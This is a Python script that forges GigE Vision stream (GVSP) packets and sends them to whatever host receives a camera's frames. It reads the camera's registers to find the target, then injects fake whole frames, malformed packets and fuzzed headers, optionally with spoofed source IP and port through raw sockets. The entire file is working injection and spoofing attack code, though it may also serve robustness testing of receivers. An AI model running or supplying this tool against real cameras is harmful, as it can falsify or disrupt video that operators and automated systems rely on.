#!/usr/bin/env python3
"""Sends forged stream packets (GVSP) to whoever receives the frames of a GigE Vision camera.

    forge.py CAMERA KIND [--from ADDRESS] [--spoof] [--port PORT] [--rate PACKETS_PER_S] [--count PACKETS]

The camera tells by its registers where its frames go and what they look like. KIND is one of

    frames   whole frames of one grey, with numbers that run ahead of the camera's
    short    0 to 7 bytes
    cut      sound packets, cut off below 60 bytes
    long     data packets longer than the camera's
    headers  sound packets, one byte of their header changed
    random   random bytes of any length
    sound    random values in every field of a sound header, random lengths

They come from a port of ADDRESS [default: the camera's]; with --spoof, which needs root, they bear that address on whatever host, and PORT
[default: the very port of the camera]. Ends after COUNT packets, or when it is killed; prints how many it sent.
"""
import argparse
import random
import socket
import struct
import time

GVCP = 3956
PORT, PACKET_SIZE, ADDRESS, SOURCE = 0xD00, 0xD04, 0xD18, 0xD1C
WIDTH, HEIGHT, FORMAT = 0x100, 0x104, 0x128


def register(camera, at):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(2)
        s.sendto(struct.pack(">BBHHHI", 0x42, 1, 0x80, 4, 1, at), (camera, GVCP))
        return struct.unpack(">I", s.recv(600)[8:12])[0]


class Frame:
    """Packets of a frame as the camera would send them."""

    def __init__(self, camera):
        self.width, self.height, self.format = (register(camera, at) for at in (WIDTH, HEIGHT, FORMAT))
        self.packet = register(camera, PACKET_SIZE) & 0xFFFF
        self.block = self.packet - 36
        size = self.width * self.height * (self.format >> 16 & 0xFF) // 8
        self.blocks = [b"\x05\xab" * ((min(self.block, size - at) + 1) // 2) for at in range(0, size, self.block)]

    def packets(self, number):
        head = lambda form, n: struct.pack(">HHI", 0, number, form << 24 | n)
        leader = struct.pack(">HHQIIIIII", 0, 1, number, self.format, self.width, self.height, 0, 0, 0)
        yield head(1, 0) + leader
        for n, block in enumerate(self.blocks, 1):
            yield head(3, n) + block
        yield head(2, len(self.blocks) + 1) + struct.pack(">HHI", 0, 1, self.height)


def forged(kind, frame, dice):
    number = 0
    while True:
        # Ahead of the camera's, and all over the 16 bits in time.
        number = (number + 37) % 65535 + 1
        whole = list(frame.packets(number))
        if kind == "frames":
            yield from whole
        elif kind == "short":
            yield dice.randbytes(dice.randrange(8))
        elif kind == "cut":
            yield dice.choice(whole)[:dice.randrange(60)]
        elif kind == "long":
            yield whole[1] + dice.randbytes(dice.randrange(1, min(2000, 65508 - len(whole[1]))))
        elif kind == "headers":
            bent = bytearray(dice.choice(whole))
            bent[dice.randrange(8)] ^= dice.randrange(1, 256)
            yield bytes(bent)
        elif kind == "random":
            yield dice.randbytes(dice.choice((4, 8, 16, 44, 60, 1372, frame.packet - 28)))
        else:
            # Values at which arithmetic of 8, 16, 24, 32 and 64 bits turns over are as likely as others.
            edge = lambda bits: dice.choice((0, 1, 2, 3, 255, 1 << bits - 1, (1 << bits) - 1, dice.getrandbits(bits)))
            cut = lambda bits: edge(bits) & (1 << bits) - 1
            status = dice.choice((0, 0, 0, 0x100, 0x800C, cut(16)))
            form = dice.choice((1, 1, 2, 2, 3, 3, 3, 4, 5, 6, 7, 8, cut(7)))
            packet = dice.choice((0, len(frame.blocks), len(frame.blocks) + 1, cut(24)))
            if dice.random() < 0.5:
                head = struct.pack(">HHI", status, cut(16), form << 24 | packet & 0xFFFFFF)
            else:
                head = struct.pack(">HHIQI", status, cut(16), 0x80 << 24 | form << 24, cut(64), cut(32))
            body = struct.pack(">HHQII", 0, dice.choice((1, 1, 4, 5, 6, 10, 0x4001, cut(16))), 0, frame.format, cut(32))
            room = frame.packet - 28 - len(head)
            length = dice.choice((0, 1, 4, 8, 12, 36, room, room, len(frame.blocks[-1]), dice.randrange(room)))
            yield head + body[:length].ljust(length, b"\x5a")


def spoofed(source, to):
    """Sends from any address and port."""
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    addresses = socket.inet_aton(source[0]) + socket.inet_aton(to[0])

    def send(body):
        udp = struct.pack(">HHHH", source[1], to[1], 8 + len(body), 0) + body
        raw.sendto(struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0) + addresses + udp, (to[0], 0))

    return send


def main():
    arguments = argparse.ArgumentParser()
    arguments.add_argument("camera")
    arguments.add_argument("kind", choices=("frames", "short", "cut", "long", "headers", "random", "sound"))
    arguments.add_argument("--from", dest="sender")
    arguments.add_argument("--spoof", action="store_true")
    arguments.add_argument("--port", type=int)
    arguments.add_argument("--rate", type=float, default=1000)
    arguments.add_argument("--count", type=int, default=1 << 62)
    given = arguments.parse_args()
    while not (port := register(given.camera, PORT) & 0xFFFF):
        time.sleep(0.01)
    to = (socket.inet_ntoa(struct.pack(">I", register(given.camera, ADDRESS))), port)
    sender = given.sender or given.camera
    if given.spoof:
        send = spoofed((sender, given.port or register(given.camera, SOURCE)), to)
    else:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.bind((sender, 0))
        send = lambda body: s.sendto(body, to)
    begun = time.monotonic()
    for sent, body in enumerate(forged(given.kind, Frame(given.camera), random.Random(1))):
        if sent >= given.count:
            break
        try:
            send(body)
        except OSError:
            pass  # as a full queue loses it
        ahead = sent / given.rate - (time.monotonic() - begun)
        if ahead > 0.005:
            time.sleep(ahead)
    print(sent)


if __name__ == "__main__":
    main()
